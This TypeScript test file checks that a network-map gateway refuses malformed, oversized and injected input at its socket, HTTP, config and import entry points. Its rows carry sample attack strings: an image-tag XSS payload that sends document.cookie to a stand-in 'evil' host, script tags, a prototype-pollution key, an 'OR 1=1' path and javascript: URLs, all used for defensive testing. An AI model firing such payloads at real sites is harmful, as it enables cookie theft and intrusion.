/**
 * Bad input at every entry point, table-driven: malformed, oversized, wrong-type, wrong-version,
 * injected-script and out-of-range payloads at
 *   - socket events (subscribe, unsubscribe, resync, alarm:ack, detail:subscribe, unknown events, raw frames),
 *   - POST /api/ingest, POST/PUT/DELETE /api/scenarios (real gateway over HTTP, in-process),
 *   - the scene config (parseConfig / loadConfig), the gateway's token config and environment,
 *   - imported GeoJSON / CSV (planner io), static data files (parseDataFile).
 * Each row must be refused with a reason that names the problem; after every row the gateway still answers
 * /api/health and nothing stored changed (state digest, alarm count and the scenario list are byte-equal).
 *
 * Free text (alarm text, scenario names) is NOT refused for containing markup — "<b>A&B</b>" is legitimate
 * text; it is stored verbatim and only ever rendered as text (see html-sinks.test.ts and dom-text.test.ts).
 * Markup in constrained fields (ids, kinds, layers, event names, URLs) is refused by the schemas.
 */
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { io as ioc, type Socket } from "socket.io-client";
import { makeFixture } from "../integration/fixture";
import { parseConfig, loadConfig, DEFAULT_CONFIG } from "../../src/config/schema";
import { parseDataFile, SitesFile } from "../../src/protocol/data";
import { PROTOCOL_VERSION, type ErrorMsg } from "../../src/protocol/live";
import { geoJSONToCandidates } from "../../src/planner/io/geojson";
import { csvToCandidates } from "../../src/planner/io/csv";
import { loadTokens, readEnv } from "../../src/server/config";
import { createGateway, type Gateway } from "../../src/server/gateway";

const data = makeFixture({ sites: 50, datacentres: 3, chargers: 10, roads: 2, sensorsPerRoad: 4 }, 5);
const SCRIPT = "<script>alert(1)</script>";
const IMG = `<img src=x onerror="fetch('//evil/'+document.cookie)">`;

let gw: Gateway;
const json = async (r: Response) => (await r.json()) as Record<string, unknown>;
const send = (path: string, method: string, body: string | undefined, token?: string, type = "application/json") =>
  fetch(`${gw.url}${path}`, {
    method,
    headers: {
      ...(body !== undefined ? { "content-type": type } : {}),
      ...(token ? { authorization: `Bearer ${token}` } : {}),
    },
    body,
  });

/** everything stored: live state digest (all layers), alarm ids + states, scenario list */
async function stored(): Promise<string> {
  const d = await json(await fetch(`${gw.url}/api/digest`));
  const a = await json(await fetch(`${gw.url}/api/alarms`));
  const s = await json(
    await fetch(`${gw.url}/api/scenarios`, { headers: { authorization: "Bearer dev-viewer-token" } }),
  );
  return JSON.stringify([d.digest, a.alarms, s.items]);
}
async function healthy(): Promise<boolean> {
  const r = await fetch(`${gw.url}/api/health`);
  return r.status === 200 && (await json(r)).ok === true;
}

beforeAll(async () => {
  process.env.SCENARIO_DB = join(mkdtempSync(join(tmpdir(), "rt-bad-")), "scenarios.db");
  // ingest source: no simulator, so the state changes only through what these tests send
  gw = await createGateway({
    data,
    source: "ingest",
    log: () => {},
    limits: { rate: 1000, burst: 1000, maxStrikes: 10_000 },
  });
  // something stored that must not change: live values, an alarm, a scenario
  const ok = await send(
    "/api/ingest",
    "POST",
    JSON.stringify({
      records: [
        { layer: "sites", id: data.sites[0].id, ts: Date.now(), status: 1, metrics: { load: 0.5, users: 40 } },
        {
          layer: "chargers",
          id: data.chargers[0].id,
          ts: Date.now(),
          alarm: { kind: "charger-fault", severity: "major", text: "故障" },
        },
      ],
    }),
    "dev-ingest-token",
  );
  expect(ok.status).toBe(200);
  const sc = await send(
    "/api/scenarios",
    "POST",
    JSON.stringify({ name: "基线", candidates: [], params: {}, kpis: { coveredPct: 91.5 } }),
    "dev-planner-token",
  );
  expect(sc.status).toBe(201);
});
afterAll(async () => {
  await gw?.close();
  delete process.env.SCENARIO_DB;
});

// ------------------------------------------------------------------------------------------------ socket events
type SocketRow = { name: string; event: string; args: unknown[]; code: ErrorMsg["code"]; reason: RegExp };
const v = PROTOCOL_VERSION;
const SOCKET_ROWS: SocketRow[] = [
  {
    name: "malformed: a string instead of an object",
    event: "subscribe",
    args: ["garbage"],
    code: "invalid",
    reason: /must be an object/,
  },
  { name: "malformed: an array", event: "resync", args: [[1, 2, 3]], code: "invalid", reason: /must be an object/ },
  { name: "malformed: null", event: "alarm:ack", args: [null], code: "invalid", reason: /must be an object/ },
  {
    name: "malformed: two payloads",
    event: "subscribe",
    args: [{ v, layers: ["sites"] }, { v }],
    code: "invalid",
    reason: /exactly one message/,
  },
  {
    name: "wrong version 2",
    event: "subscribe",
    args: [{ v: 2, layers: ["sites"] }],
    code: "bad_version",
    reason: /version 2 not supported/,
  },
  {
    name: "version missing",
    event: "resync",
    args: [{ layer: "sites" }],
    code: "bad_version",
    reason: /version missing/,
  },
  {
    name: "version as string",
    event: "unsubscribe",
    args: [{ v: "1", layers: ["sites"] }],
    code: "bad_version",
    reason: /"1" not supported/,
  },
  {
    name: "wrong type: layers a string",
    event: "subscribe",
    args: [{ v, layers: "sites" }],
    code: "invalid",
    reason: /layers/,
  },
  {
    name: "wrong type: seq a string",
    event: "resync",
    args: [{ v, layer: "sites", seq: "12" }],
    code: "invalid",
    reason: /seq/,
  },
  {
    name: "out of range: unknown layer",
    event: "subscribe",
    args: [{ v, layers: ["nukes"] }],
    code: "invalid",
    reason: /layers\.0/,
  },
  {
    name: "out of range: negative seq",
    event: "resync",
    args: [{ v, layer: "sites", seq: -1 }],
    code: "invalid",
    reason: /seq/,
  },
  {
    name: "out of range: 5 layers",
    event: "subscribe",
    args: [{ v, layers: ["sites", "sites", "sites", "sites", "sites"] }],
    code: "invalid",
    reason: /layers/,
  },
  {
    name: "out of range: no such object",
    event: "detail:subscribe",
    args: [{ v, layer: "sites", objectId: "5G-99999" }],
    code: "unknown_object",
    reason: /no object 5G-99999/,
  },
  {
    name: "injected script as object id",
    event: "detail:subscribe",
    args: [{ v, layer: "sites", objectId: SCRIPT }],
    code: "invalid",
    reason: /objectId/,
  },
  {
    name: "injected markup as layer",
    event: "subscribe",
    args: [{ v, layers: [IMG] }],
    code: "invalid",
    reason: /layers\.0/,
  },
  {
    name: "injected script as event name",
    event: SCRIPT,
    args: [{ v }],
    code: "unknown_event",
    reason: /unknown event/,
  },
  { name: "unknown event", event: "launch", args: [{ v }], code: "unknown_event", reason: /unknown event "launch"/ },
  {
    name: "extra key (prototype pollution attempt)",
    event: "subscribe",
    args: [JSON.parse(`{"v":1,"layers":["sites"],"__proto__":{"admin":true}}`)],
    code: "invalid",
    reason: /Unrecognized key|__proto__/,
  },
  {
    name: "oversized: 5 KB ack (limit 4 KiB)",
    event: "alarm:ack",
    args: [{ v, alarmId: "x".repeat(5000) }],
    code: "too_large",
    reason: /larger than 4096 bytes/,
  },
  {
    name: "oversized field: 200-char alarm id",
    event: "alarm:ack",
    args: [{ v, alarmId: "x".repeat(200) }],
    code: "invalid",
    reason: /alarmId/,
  },
  {
    name: "resync of a layer not subscribed",
    event: "resync",
    args: [{ v, layer: "datacentres" }],
    code: "invalid",
    reason: /not subscribed/,
  },
];

describe("socket events", () => {
  let s: Socket;
  const errors: ErrorMsg[] = [];
  beforeAll(async () => {
    s = ioc(gw.url, {
      transports: ["websocket"],
      auth: { token: "dev-operator-token" },
      reconnection: false,
      forceNew: true,
    });
    s.on("error", (e: ErrorMsg) => errors.push(e));
    await new Promise<void>((r, j) => s.once("connect", () => r()).once("connect_error", j));
  });
  afterAll(() => void s.close());

  it.each(SOCKET_ROWS)("$name -> $code", async (row) => {
    const before = await stored();
    const n = errors.length;
    s.emit(row.event, ...row.args);
    const t0 = Date.now();
    while (errors.length === n && Date.now() - t0 < 3000) await new Promise((r) => setTimeout(r, 10));
    const e = errors[n];
    expect(e, `no error message for ${row.name}`).toBeDefined();
    expect(e.code).toBe(row.code);
    expect(e.reason).toMatch(row.reason);
    expect(s.connected).toBe(true);
    expect(await healthy()).toBe(true);
    expect(await stored()).toBe(before);
  });

  it("a frame above maxHttpBufferSize (64 KiB) closes that connection only; the gateway keeps serving", async () => {
    const before = await stored();
    const big = ioc(gw.url, { transports: ["websocket"], reconnection: false, forceNew: true });
    await new Promise<void>((r) => big.once("connect", () => r()));
    const reason = new Promise<string>((r) => big.once("disconnect", (why) => r(why)));
    big.emit("subscribe", { v, layers: ["sites"], pad: "x".repeat(100_000) });
    expect(await reason).toBe("transport close");
    expect(s.connected).toBe(true); // the other client is undisturbed
    expect(await healthy()).toBe(true);
    expect(await stored()).toBe(before);
  });

  it("a raw, non-socket.io websocket frame is dropped without harm", async () => {
    const { default: WebSocket } = await import("ws");
    const before = await stored();
    const ws = new WebSocket(`${gw.url.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`);
    await new Promise((r) => ws.once("open", r));
    for (const frame of [
      "42garbage",
      "4{",
      "\u0000\u0001binary",
      "40/admin,",
      `42["subscribe",{"v":1,"layers":["sites"]`,
    ])
      ws.send(frame);
    await new Promise((r) => setTimeout(r, 300));
    ws.close();
    expect(s.connected).toBe(true);
    expect(await healthy()).toBe(true);
    expect(await stored()).toBe(before);
  });
});

// ------------------------------------------------------------------------------------------------ ingest API
type HttpRow = { name: string; body: string; status: number; reason: RegExp; type?: string };
const rec = (o: Record<string, unknown>) => ({ layer: "sites", id: data.sites[1].id, ts: Date.now(), status: 0, ...o });
const batch = (...records: unknown[]) => JSON.stringify({ records });
const INGEST_ROWS: HttpRow[] = [
  { name: "malformed JSON", body: `{"records": [`, status: 400, reason: /JSON/i },
  { name: "not JSON at all", body: "status=ok", status: 400, reason: /JSON/i },
  {
    name: "wrong content type: text/plain (parsed as a string)",
    body: batch(rec({})),
    status: 400,
    reason: /expected object, received string/,
    type: "text/plain",
  },
  {
    name: "unsupported content type: xml",
    body: "<records/>",
    status: 415,
    reason: /Unsupported Media Type/i,
    type: "application/xml",
  },
  {
    name: "oversized body (1.5 MB > 1 MiB)",
    body: batch(...Array.from({ length: 12000 }, () => rec({ pad: "x".repeat(100) }))),
    status: 413,
    reason: /too large/i,
  },
  {
    name: "too many records (5001)",
    body: batch(...Array.from({ length: 5001 }, () => ({ layer: "sites" }))),
    status: 400,
    reason: /records.*5000/,
  },
  { name: "wrong type: records is a string", body: JSON.stringify({ records: "all" }), status: 400, reason: /records/ },
  { name: "empty batch", body: batch(), status: 400, reason: /records/ },
  {
    name: "wrong version / unknown top-level key",
    body: JSON.stringify({ v: 2, records: [rec({})] }),
    status: 400,
    reason: /Unrecognized key: \\"v\\"/,
  },
  {
    name: "prototype pollution",
    body: `{"records":[{"layer":"sites","id":"${data.sites[1].id}","ts":${Date.now()},"status":0,"__proto__":{"admin":true}}]}`,
    status: 400,
    reason: /not valid JSON/,
  }, // fastify's secure-json-parse refuses __proto__ keys
  { name: "wrong type: status a string", body: batch(rec({ status: "ok" })), status: 400, reason: /status/ },
  { name: "wrong type: metrics an array", body: batch(rec({ metrics: [1, 2] })), status: 400, reason: /metrics/ },
  { name: "injected script as id", body: batch(rec({ id: SCRIPT })), status: 400, reason: /id: ids use letters/ },
  { name: "injected markup as layer", body: batch(rec({ layer: IMG })), status: 400, reason: /layer/ },
  {
    name: "injected script as alarm kind",
    body: batch(rec({ status: undefined, alarm: { kind: SCRIPT, severity: "major", text: "x" } })),
    status: 400,
    reason: /alarm\.kind: kind uses/,
  },
  {
    name: "out of range: load 7 (0..1)",
    body: batch(rec({ metrics: { load: 7 } })),
    status: 400,
    reason: /metrics\.load: 7 out of range \[0, 1\]/,
  },
  { name: "out of range: status 9", body: batch(rec({ status: 9 })), status: 400, reason: /status/ },
  { name: "out of range: ts in 1970", body: batch(rec({ ts: 0 })), status: 400, reason: /ts/ },
  {
    name: "out of range: Infinity (1e999)",
    body: `{"records":[{"layer":"sites","id":"${data.sites[1].id}","ts":${Date.now()},"metrics":{"load":1e999}}]}`,
    status: 400,
    reason: /load/,
  },
  {
    name: "unknown metric",
    body: batch(rec({ metrics: { warp: 1 } })),
    status: 400,
    reason: /metrics\.warp: not a sites metric/,
  },
  {
    name: "unknown object",
    body: batch(rec({ id: "5G-99999" })),
    status: 400,
    reason: /unknown object \\"5G-99999\\" in layer sites/,
  },
  {
    name: "fractional integer metric",
    body: batch(rec({ metrics: { users: 2.5 } })),
    status: 400,
    reason: /users: 2.5 must be an integer/,
  },
];

describe("POST /api/ingest", () => {
  it.each(INGEST_ROWS)("$name -> $status", async (row) => {
    const before = await stored();
    const r = await send("/api/ingest", "POST", row.body, "dev-ingest-token", row.type);
    const text = await r.text();
    expect(r.status, text).toBe(row.status);
    expect(text).toMatch(row.reason);
    expect(await healthy()).toBe(true);
    expect(await stored()).toBe(before);
  });

  it("a mixed batch keeps the valid record and names the bad one by index", async () => {
    const r = await send(
      "/api/ingest",
      "POST",
      batch(rec({ metrics: { load: 0.25 } }), rec({ metrics: { load: -1 } })),
      "dev-ingest-token",
    );
    const body = await json(r);
    expect(body).toEqual({ accepted: 1, rejected: [{ index: 1, reason: "metrics.load: -1 out of range [0, 1]" }] });
    expect(gw.state.layers.sites.metrics.load[1]).toBeCloseTo(0.25, 6);
  });
});

// ------------------------------------------------------------------------------------------------ scenarios API
const cand = (o: Record<string, unknown> = {}) => ({
  id: "C1",
  lon: 119.3,
  lat: 26.08,
  heightM: 30,
  azimuths: [0, 120, 240],
  tiltDeg: 6,
  txPowerDbm: 46,
  band: "n78",
  ...o,
});
const scen = (o: Record<string, unknown> = {}) =>
  JSON.stringify({ name: "方案", candidates: [cand()], params: {}, kpis: {}, ...o });
const SCENARIO_ROWS: (HttpRow & { method?: string; path?: string })[] = [
  { name: "malformed JSON", body: `{"name": "x", `, status: 400, reason: /JSON/i },
  {
    name: "oversized body (5 MB > 4 MiB)",
    body: scen({ description: "x".repeat(5 * 1024 * 1024) }),
    status: 413,
    reason: /too large/i,
  },
  { name: "wrong type: name is a number", body: scen({ name: 5 }), status: 400, reason: /"field":"name"/ },
  {
    name: "wrong type: candidates an object",
    body: scen({ candidates: {} }),
    status: 400,
    reason: /"field":"candidates"/,
  },
  {
    name: "missing kpis",
    body: JSON.stringify({ name: "x", candidates: [], params: {} }),
    status: 400,
    reason: /"field":"kpis"/,
  },
  {
    name: "too many candidates (5001)",
    body: scen({ candidates: Array.from({ length: 5001 }, (_, i) => cand({ id: `C${i}` })) }),
    status: 400,
    reason: /"field":"candidates"/,
  },
  {
    name: "injected script as candidate id",
    body: scen({ candidates: [cand({ id: SCRIPT })] }),
    status: 400,
    reason: /"field":"candidates.0.id"/,
  },
  {
    name: "out of range: lon 500",
    body: scen({ candidates: [cand({ lon: 500 })] }),
    status: 400,
    reason: /"field":"candidates.0.lon"/,
  },
  {
    name: "out of range: azimuth 360",
    body: scen({ candidates: [cand({ azimuths: [0, 120, 360] })] }),
    status: 400,
    reason: /"field":"candidates.0.azimuths.2"/,
  },
  {
    name: "out of range: weakDbm above goodDbm",
    body: scen({ params: { goodDbm: -100, weakDbm: -90 } }),
    status: 400,
    reason: /weakDbm must be <= goodDbm/,
  },
  {
    name: "out of range: KPI Infinity",
    body: `{"name":"x","candidates":[],"params":{},"kpis":{"coveredPct":1e999}}`,
    status: 400,
    reason: /"field":"kpis.coveredPct"/,
  },
  {
    name: "duplicate candidate ids",
    body: scen({ candidates: [cand(), cand()] }),
    status: 400,
    reason: /duplicate candidate id C1/,
  },
  {
    name: "PUT with a non-numeric id",
    body: scen(),
    status: 400,
    reason: /expected a positive integer/,
    method: "PUT",
    path: "/api/scenarios/1%20OR%201=1",
  },
  {
    name: "PUT to a missing scenario",
    body: scen(),
    status: 404,
    reason: /no scenario 999/,
    method: "PUT",
    path: "/api/scenarios/999",
  },
  {
    name: "DELETE with a negative id",
    body: undefined as unknown as string,
    status: 400,
    reason: /expected a positive integer/,
    method: "DELETE",
    path: "/api/scenarios/-1",
  },
];

describe("/api/scenarios", () => {
  it.each(SCENARIO_ROWS)("$name -> $status", async (row) => {
    const before = await stored();
    const r = await send(row.path ?? "/api/scenarios", row.method ?? "POST", row.body, "dev-planner-token");
    const text = await r.text();
    expect(r.status, text).toBe(row.status);
    expect(text).toMatch(row.reason);
    expect(await healthy()).toBe(true);
    expect(await stored()).toBe(before);
  });

  it("markup in a free-text name is stored verbatim as text (never interpreted), not refused", async () => {
    const r = await send("/api/scenarios", "POST", scen({ name: `A&B ${SCRIPT}` }), "dev-planner-token");
    expect(r.status).toBe(201);
    const got = await json(r);
    expect(got.name).toBe(`A&B ${SCRIPT}`);
    expect(r.headers.get("content-type")).toMatch(/^application\/json/); // never served as HTML
    expect(r.headers.get("x-content-type-options")).toBe("nosniff");
    expect((await send(`/api/scenarios/${got.id as number}`, "DELETE", undefined, "dev-planner-token")).status).toBe(
      204,
    );
  });
});

// ------------------------------------------------------------------------------------------------ config files
describe("scene config (public/config/scene.json or ?config=)", () => {
  const base = JSON.parse(JSON.stringify(DEFAULT_CONFIG)) as Record<string, unknown>;
  const rows: { name: string; json: unknown; field: RegExp }[] = [
    { name: "wrong version", json: { ...base, version: 2 }, field: /version/ },
    { name: "wrong type: staleAfterS a string", json: { ...base, staleAfterS: "10" }, field: /staleAfterS/ },
    {
      name: "out of range: preset lat 40",
      json: {
        ...base,
        camera: {
          ...(base.camera as object),
          presets: [{ id: "x", name_zh: "x", name_en: "x", lon: 119, lat: 40, range: 1000 }],
        },
      },
      field: /camera\.presets\[0\]\.lat/,
    },
    {
      name: "injected script URL as terrain",
      json: { ...base, terrainUrl: "javascript:alert(1)" },
      field: /terrainUrl: javascript: URLs are not allowed/,
    },
    {
      name: "injected script URL in data",
      json: { ...base, data: { ...(base.data as object), sites: " JavaScript:alert(1)" } },
      field: /data\.sites/,
    },
    {
      name: "oversized URL (3000 chars)",
      json: { ...base, extraTilesets: ["https://x/" + "a".repeat(3000)] },
      field: /extraTilesets\[0\]/,
    },
    { name: "malformed: an array", json: [1, 2], field: /\(root\)/ },
  ];
  it.each(rows)("$name: the field is named, the default scene is used", ({ json: j, field }) => {
    const r = parseConfig(j, "scene.json");
    expect(r.error).toMatch(/^scene\.json: /);
    expect(r.error).toMatch(field);
    expect(r.config).toBe(DEFAULT_CONFIG);
  });
  it("malformed JSON text and an oversized fetch failure are reported, never thrown", async () => {
    const fake = (body: string, status = 200) =>
      (async () => new Response(body, { status })) as unknown as typeof fetch;
    expect((await loadConfig("c.json", fake("{ nope"))).error).toMatch(/c\.json: not valid JSON/);
    expect((await loadConfig("c.json", fake("", 413))).error).toBe("c.json: HTTP 413");
  });
});

describe("gateway token config and environment", () => {
  const rows: { name: string; env: Record<string, string>; err: RegExp }[] = [
    { name: "malformed JSON", env: { RONGTWIN_TOKENS: "{tokens:" }, err: /RONGTWIN_TOKENS: not valid JSON/ },
    {
      name: "wrong type: tokens an object",
      env: { RONGTWIN_TOKENS: JSON.stringify({ tokens: {} }) },
      err: /RONGTWIN_TOKENS: tokens: /,
    },
    {
      name: "unknown role",
      env: {
        RONGTWIN_TOKENS: JSON.stringify({ tokens: [{ token: "a-long-enough-token", role: "admin", name: "x" }] }),
      },
      err: /tokens\.0\.role/,
    },
    {
      name: "token too short (guessable)",
      env: { RONGTWIN_TOKENS: JSON.stringify({ tokens: [{ token: "123", role: "operator", name: "x" }] }) },
      err: /tokens\.0\.token/,
    },
    {
      name: "oversized: 300-char token",
      env: { RONGTWIN_TOKENS: JSON.stringify({ tokens: [{ token: "t".repeat(300), role: "operator", name: "x" }] }) },
      err: /tokens\.0\.token/,
    },
  ];
  it.each(rows)("tokens $name -> refused at startup with the reason", ({ env, err }) => {
    expect(() => loadTokens(env as NodeJS.ProcessEnv, "/nonexistent/tokens.json")).toThrow(err);
  });
  it.each([
    [{ PORT: "http" }, /PORT=http: expected a number/],
    [{ SIM_SPEED: "-5" }, /SIM_SPEED=-5/],
    [{ LIVE_SOURCE: "<script>" }, /LIVE_SOURCE=<script>: expected/],
    [{ SIM_START: "yesterday" }, /SIM_START=yesterday: expected an ISO/],
  ] as [Record<string, string>, RegExp][])("environment %o -> refused naming the variable", (env, err) => {
    expect(() => readEnv(env as NodeJS.ProcessEnv)).toThrow(err);
  });
});

// ------------------------------------------------------------------------------------------------ imports
describe("imported GeoJSON / CSV (planner)", () => {
  const feat = (props: Record<string, unknown>, coords: unknown = [119.3, 26.08]) => ({
    type: "Feature",
    geometry: { type: "Point", coordinates: coords },
    properties: props,
  });
  const fc = (...features: unknown[]) => ({ type: "FeatureCollection", features });
  const rows: { name: string; input: unknown; line: number; field: string; reason: RegExp }[] = [
    { name: "malformed JSON", input: `{"type": "FeatureCollection", `, line: 0, field: "(file)", reason: /not JSON/ },
    {
      name: "wrong type: not a FeatureCollection",
      input: { type: "Feature" },
      line: 0,
      field: "type",
      reason: /FeatureCollection/,
    },
    {
      name: "wrong geometry: a Polygon",
      input: fc({ type: "Feature", geometry: { type: "Polygon", coordinates: [] }, properties: {} }),
      line: 1,
      field: "geometry",
      reason: /Point/,
    },
    {
      name: "out of range: lat 95",
      input: fc(feat({ id: "A" }, [119.3, 95])),
      line: 1,
      field: "lat",
      reason: /90|Too big/,
    },
    {
      name: "wrong type: height a string",
      input: fc(feat({ id: "A", heightM: "tall" })),
      line: 1,
      field: "heightM",
      reason: /number/,
    },
    { name: "injected script as id", input: fc(feat({ id: SCRIPT })), line: 1, field: "id", reason: /ids use letters/ },
    {
      name: "out of range: band n999",
      input: fc(feat({ id: "A", band: "n999" })),
      line: 1,
      field: "band",
      reason: /./,
    },
  ];
  it.each(rows)("GeoJSON $name -> line $line field $field", ({ input, line, field, reason }) => {
    const r = geoJSONToCandidates(input);
    expect(r.items).toEqual([]);
    expect(r.errors[0]).toMatchObject({ line, field });
    expect(r.errors[0].reason).toMatch(reason);
  });
  it("GeoJSON: good features are kept beside bad ones", () => {
    const r = geoJSONToCandidates(fc(feat({ id: "OK1" }), feat({ id: SCRIPT }), feat({ id: "OK2" })));
    expect(r.items.map((c) => c.id)).toEqual(["OK1", "OK2"]);
    expect(r.errors).toEqual([expect.objectContaining({ line: 2, field: "id" })]);
  });
  const head = "id,name,lon,lat,heightM,azimuth1,azimuth2,azimuth3,tiltDeg,txPowerDbm,band,source";
  const csvRows: { name: string; text: string; line: number; field: string }[] = [
    {
      name: "wrong type: lat is text",
      text: `${head}\nA,x,119.3,north,30,0,120,240,6,46,n78,import`,
      line: 2,
      field: "lat",
    },
    {
      name: "out of range: lon 500",
      text: `${head}\nA,x,500,26.1,30,0,120,240,6,46,n78,import`,
      line: 2,
      field: "lon",
    },
    {
      name: "injected script as id",
      text: `${head}\n"${SCRIPT}",x,119.3,26.1,30,0,120,240,6,46,n78,import`,
      line: 2,
      field: "id",
    },
    {
      name: "out of range: power 99 dBm on line 3",
      text: `${head}\nA,x,119.3,26.1,30,0,120,240,6,46,n78,import\nB,y,119.3,26.1,30,0,120,240,6,99,n78,import`,
      line: 3,
      field: "txPowerDbm",
    },
  ];
  it.each(csvRows)("CSV $name -> line $line field $field", ({ text, line, field }) => {
    const r = csvToCandidates(text);
    expect(r.errors.length).toBeGreaterThan(0);
    expect(r.errors[0]).toMatchObject({ line, field });
  });
});

describe("static data files (parseDataFile)", () => {
  const file = (items: unknown[], schema = "rongtwin.sites/1") => ({
    schema,
    sample: true,
    generator: { name: "t", version: "1", seed: 1 },
    items,
  });
  const site = (o: Record<string, unknown> = {}) => ({ ...data.sites[0], ...o });
  it.each([
    ["wrong version", file([site()], "rongtwin.sites/2"), /sites\.json: schema/],
    ["out of range: lat 95", file([site({ lat: 95 })]), /sites\.json: items\[0\] \(5G-00001\)\.lat/],
    ["wrong type: heightM a string", file([site({ heightM: "30" })]), /items\[0\] \(5G-00001\)\.heightM/],
    ["injected script as id", file([site({ id: SCRIPT })]), /items\[0\].*\.id/],
    ["malformed: items not an array", { ...file([]), items: "none" }, /sites\.json: items/],
  ] as [string, unknown, RegExp][])("%s -> thrown with file, record and field", (_n, j, err) => {
    expect(() => parseDataFile(SitesFile, j, "sites.json")).toThrow(err);
  });
});
